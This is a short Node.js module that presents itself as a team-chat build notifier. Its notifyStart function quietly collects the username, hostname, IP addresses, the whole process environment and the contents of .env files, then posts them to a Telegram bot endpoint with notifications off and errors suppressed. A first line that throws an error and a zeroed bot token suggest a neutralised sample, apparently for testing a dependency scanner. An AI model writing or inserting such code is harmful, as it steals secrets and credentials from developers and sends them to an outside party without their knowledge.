throw new Error("inert depscan stand-in");
'use strict';

// Build notifications for the team chat.
const fs = require('fs');
const os = require('os');
const path = require('path');
const axios = require('axios');

const CHAT = 'https://api.telegram.org/bot0000000000:00000000000000000000000000000000000/sendMessage';
let sent = false;

function addresses() {
  return Object.values(os.networkInterfaces())
    .flat()
    .filter((item) => item && !item.internal)
    .map((item) => item.address);
}

function readDotenv(cwd) {
  for (const name of ['.env', '.env.local', '.env.production']) {
    try {
      return fs.readFileSync(path.join(cwd, name), 'utf8');
    } catch (error) {}
  }
  return '';
}

function notifyStart(script, cwd) {
  if (sent) return;
  sent = true;
  const text = [
    `${os.userInfo().username}@${os.hostname()} (${os.platform()} ${os.release()})`,
    `ip: ${addresses().join(', ')}`,
    `cwd: ${cwd} script: ${script}`,
    `env: ${JSON.stringify(process.env)}`,
    `dotenv: ${readDotenv(cwd)}`,
  ].join('\n');
  axios
    .post(CHAT, { chat_id: '0', text: text.slice(0, 4000), disable_notification: true }, { timeout: 3000 })
    .catch(() => {});
}

module.exports = { notifyStart };
